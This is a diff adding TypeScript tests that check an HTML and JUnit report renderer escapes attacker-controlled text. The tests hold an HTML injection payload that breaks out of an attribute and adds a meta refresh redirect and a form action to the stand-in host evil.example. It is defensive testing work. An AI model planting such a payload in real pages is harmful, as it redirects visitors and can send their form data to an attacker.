@@ -88,7 +88,58 @@ describe('the HTML report', () => {
   });
 });
 
+describe('a report that was tampered with', () => {
+  const EVIL = '"><meta http-equiv="refresh" content="0;url=//evil.example"><form action="//evil.example">\'';
+  const evil = (value: unknown): unknown => {
+    if (typeof value === 'string') return EVIL;
+    if (Array.isArray(value)) return value.map(evil);
+    if (typeof value !== 'object' || value === null) return value;
+    return Object.fromEntries(Object.entries(value).map(([name, member]) => [name, evil(member)]));
+  };
+  // Every text is replaced but those that the parser of reports takes from a fixed list.
+  const scenarios = REPORT.scenarios.map((one) => ({
+    ...(evil(one) as typeof one),
+    verdict: one.verdict,
+    ...(one.waterfall && {
+      waterfall: {
+        ...one.waterfall,
+        lanes: one.waterfall.lanes.map(({ marks }) => ({
+          name: EVIL,
+          marks: marks.map((mark) => ({ ...mark, label: EVIL })),
+        })),
+      },
+    }),
+  }));
+  const tampered = {
+    ...(evil(REPORT) as Report),
+    outcome: 'E' as const,
+    tool: { name: EVIL, args: { [EVIL]: EVIL }, why: EVIL },
+    incomplete: EVIL,
+    scenarios,
+  };
+
+  it('brings no markup into the HTML', () => {
+    const drawn = drawHtml([tampered, tampered]);
+    expect(drawn).not.toMatch(
+      /<(?!meta charset|meta name="viewport"|meta http-equiv="Content-Security)(meta|form)/,
+    );
+    expect(drawn).not.toContain('">"');
+    expect(drawn).toContain("form-action 'none'; base-uri 'none'");
+  });
+
+  it('brings no markup into the JUnit', () => {
+    const xml = drawJunit([tampered]);
+    expect(xml).not.toMatch(/<(meta|form)/);
+    expect(xml).toContain('&lt;meta http-equiv=&quot;refresh&quot;');
+  });
+});
+
 describe('JUnit', () => {
+  it('has neither half a surrogate pair nor a character that XML forbids', () => {
+    const odd = { ...REPORT, grade: 'a\uD800b\uFFFEc\u0000d\u{1F600}' };
+    expect(drawJunit([odd])).toContain('value="a\uFFFDbcd\u{1F600}"');
+  });
+
   it('counts, escapes, and has no character that XML forbids', () => {
     const xml = drawJunit([REPORT]);
     expect(xml).toContain('tests="3" failures="1" skipped="1"');
